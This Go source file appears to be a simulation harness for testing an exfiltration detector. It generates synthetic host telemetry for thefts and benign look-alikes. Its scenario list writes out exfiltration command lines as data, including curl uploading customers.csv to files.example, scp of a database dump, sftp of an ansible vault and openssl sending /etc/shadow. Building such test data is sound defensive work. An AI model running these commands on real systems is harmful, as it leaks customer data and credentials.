package detect

import (
	"fmt"
	"net/netip"
	"slices"
	"time"
)

// draw has a day's thefts be twenty of all that there are, five of them riding on
// what is routine: no seed is that which the rules were made with.
func (f *fleet) draw() {
	all := slices.Concat(thefts, later)
	f.r.Shuffle(len(all), func(i, j int) { all[i], all[j] = all[j], all[i] })
	left := map[bool]int{true: 5, false: 15}
	for _, t := range all {
		if left[t.rides] > 0 {
			left[t.rides]--
			f.drawn = append(f.drawn, t)
		}
	}
}

// proxy is what hosts reach the web through.
var proxy = netip.AddrFrom4([4]byte{10, 5, 0, 250})

// uploads has curl send a file to somewhere.
func (f *fleet) uploads(at time.Time, up *task, line string, to netip.Addr, port int, sent int64, file string, change ...func(*task)) *task {
	t := f.start(at, up, "/usr/bin/curl", line, change...)
	if file != "" {
		f.reads(at.Add(20*time.Millisecond), t, file, sent)
	}
	f.sends(at.Add(30*time.Millisecond), over(sent), t, to, port, false, sent, 4000)
	f.end(at.Add(over(sent)+time.Second), t)
	return t
}

// later are thefts that were thought of when all else stood, by somebody who had read it.
var later = []stealing{
	{"java, through the proxy that all use", false, func(f *fleet, at time.Time) *task {
		sh := f.start(at, f.pick("app").service, "/usr/bin/dash", "sh -c curl")
		return f.uploads(at.Add(time.Second), sh, "curl -s -x http://10.5.0.250:3128 -T /srv/app/export/customers.csv https://files.example/u", proxy, 3128, f.about(20e6, 0.5), "/srv/app/export/customers.csv")
	}},
	{"a stolen login, curl told by a file", false, func(f *fleet, at time.Time) *task {
		return f.uploads(at.Add(time.Minute), f.entered(at, "web"), "curl -K c https://files.example/u", f.outside(), 443, f.about(50e6, 0.5), "/srv/shop/orders.csv")
	}},
	{"a user's own cron, rclone to a bucket", false, func(f *fleet, at time.Time) *task {
		m := f.pick("app")
		sh := f.start(at, m.cron, "/usr/bin/dash", "/bin/sh -c rclone copy /srv/app/export r:x", as("deploy", 1100))
		t := f.start(at.Add(time.Second), sh, "/usr/bin/rclone", "rclone copy /srv/app/export r:x")
		f.reads(at.Add(2*time.Second), t, "/srv/app/export/customers.csv", 60e6)
		f.sends(at.Add(2*time.Second), time.Minute, t, f.outside(), 443, false, f.about(60e6, 0.5), 90000)
		f.end(at.Add(3*time.Minute), t)
		return t
	}},
	{"onto a neighbour's share", false, func(f *fleet, at time.Time) *task {
		t := f.start(at.Add(time.Minute), f.entered(at, "app"), "/usr/bin/smbclient", "smbclient //h/tmp -c 'put customers.csv'")
		f.reads(at.Add(time.Minute), t, "/srv/app/export/customers.csv", 15e6)
		f.sends(at.Add(time.Minute), time.Minute, t, f.pick("staging").addr, 445, false, f.about(15e6, 0.5), 9000)
		f.end(at.Add(3*time.Minute), t)
		return t
	}},
	{"a unit made for it", false, func(f *fleet, at time.Time) *task {
		m := f.pick("db")
		return f.copyOut(at, m.init, "/usr/bin/rsync", "rsync -a /var/backups/db/ u@h:/in", f.outside(), f.about(300e6, 0.5), map[string]int64{"/var/backups/db/shop-1.sql.gz": 300e6},
			unit(fmt.Sprintf("run-r%08x.service", f.r.Uint32())))
	}},
	{"from a container", false, func(f *fleet, at time.Time) *task {
		m := f.pick("app")
		shim := f.start(at, m.init, "/usr/bin/containerd-shim-runc-v2", "containerd-shim-runc-v2", unit("containerd.service"))
		sh := f.start(at.Add(time.Second), shim, "/bin/sh", "/bin/sh", func(t *task) { t.container, t.cgroup = "4f3a9b", "/system.slice/docker-4f3a9b.scope" })
		return f.copyOut(at.Add(2*time.Second), sh, "/usr/bin/scp", "scp -q /data/dump.sql u@h:", f.outside(), f.about(70e6, 0.5), map[string]int64{"/data/dump.sql": 70e6})
	}},
	{"shadow, through openssl", false, func(f *fleet, at time.Time) *task {
		t := f.start(at.Add(time.Minute), f.entered(at, "web"), "/usr/bin/openssl", "openssl s_client -quiet -connect h:443")
		f.reads(at.Add(time.Minute), t, "/etc/shadow", 1400)
		f.sends(at.Add(time.Minute), 2*time.Second, t, f.outside(), 443, false, 4000, 3000)
		f.end(at.Add(2*time.Minute), t)
		return t
	}},
	{"the shipper, in many pieces", true, func(f *fleet, at time.Time) (last *task) {
		m := f.pick("web")
		for i := range 40 {
			t := f.ship(at.Add(time.Duration(i)*40*time.Second), m, 7e6, map[string]int64{"/var/log/nginx/access.log.1": 7e6})
			if last != nil {
				f.truth[last.entity()] = "the shipper, in many pieces"
			}
			last = t
		}
		return last
	}},
	{"out of the public mirror", true, func(f *fleet, at time.Time) *task {
		m := f.pick("mirror")
		t := f.start(at, m.init, "/usr/bin/rsync", "/usr/bin/rsync --daemon --no-detach", unit(fmt.Sprintf("rsync@%d.service", f.r.IntN(9999))))
		f.reads(at.Add(time.Second), t, "/srv/mirror/debian/pool/main/.c/customers.csv", 40e6)
		f.sends(at, over(40e6), t, f.outside(), 40000, true, 40e6, 60000)
		f.end(at.Add(over(40e6)+2*time.Second), t)
		return t
	}},
	{"a fetch of the sources that sends", true, func(f *fleet, at time.Time) *task {
		m := f.pick("ci")
		shell, _ := f.job(at, m, 1)
		fetch := f.start(at.Add(time.Second), shell, "/usr/bin/git", "git fetch origin")
		t := f.start(at.Add(time.Second+5*time.Millisecond), fetch, "/usr/bin/ssh", "ssh git@git.internal git-upload-pack 'shop/part-1.git'")
		f.sends(at.Add(2*time.Second), 20*time.Second, t, f.of("git")[0].addr, 22, false, f.about(30e6, 0.5), 900_000)
		f.end(at.Add(30*time.Second), t)
		return t
	}},
	{"a partner's login from elsewhere", true, func(f *fleet, at time.Time) *task {
		return f.session(at, f.of("staging")[0], f.outside(), "partner0", 1300, "/usr/lib/openssh/sftp-server", "/usr/lib/openssh/sftp-server",
			f.about(8e6, 0.2), 8000, map[string]int64{"/srv/sftp/partner0/report-4.csv": 8e6})
	}},
	{"the controller, its vault to outside", true, func(f *fleet, at time.Time) *task {
		c := f.pick("control")
		play := f.start(at, c.cron, "/usr/bin/python3.11", "/usr/bin/python3 /usr/bin/ansible-playbook site.yml", runs("/usr/bin/ansible-playbook"), as("ansible", 998), in("/srv/ansible"))
		return f.copyOut(at.Add(8*time.Second), play, "/usr/bin/sftp", "sftp -b - -C h", f.outside(), 280_000, map[string]int64{"/srv/ansible/group_vars/vault.yml": 9000})
	}},
	{"a pipeline, to a host that it deploys to", true, func(f *fleet, at time.Time) *task {
		m, to := f.pick("ci"), f.of("app")[2]
		shell, dir := f.job(at, m, 1)
		return f.copyOut(at.Add(time.Second), shell, "/usr/bin/scp", fmt.Sprintf("scp -q export/all.jar deploy@%s:/srv/app/releases/", to.addr), to.addr, f.about(30e6, 0.2), map[string]int64{dir + "/export/customers.csv": 30e6})
	}},
}

// business is what else happens that is no theft, some of it every day.
func (f *fleet) business(at time.Time, n int) {
	for _, m := range f.of("web") { // what is installed, told through the proxy
		at := f.within(at.Add(5*time.Hour), time.Hour)
		up := f.start(at, m.init, "/usr/bin/dash", "/bin/sh /usr/libexec/inventory", unit("inventory.service"), runs("/usr/libexec/inventory"))
		f.uploads(at.Add(time.Second), up, "curl -sS -x http://10.5.0.250:3128 -d @/var/lib/inventory/packages.json https://inventory.example/", proxy, 3128, f.about(90_000, 0.2), "/var/lib/inventory/packages.json")
	}
	if f.calm {
		return
	}
	for range 2 { // logs again, after the network was gone
		m := f.pick("web")
		for i := range 3 {
			f.ship(at.Add(13*time.Hour+time.Duration(i)*5*time.Minute), m, f.about(4e6, 0.5), map[string]int64{"/var/log/nginx/access.log.1": 4e6})
		}
	}
	server, m := f.of("backup")[n%3], f.pick("db") // a database is given back
	f.session(at.Add(11*time.Hour), server, m.addr, "backup", 34, "/usr/bin/rsync", "rsync --server --sender -logDtpre.iLsfxC . /srv/backup/"+m.name+"/shop.sql.gz", m.size, 9000,
		map[string]int64{"/srv/backup/" + m.name + "/shop.sql.gz": m.size})
}
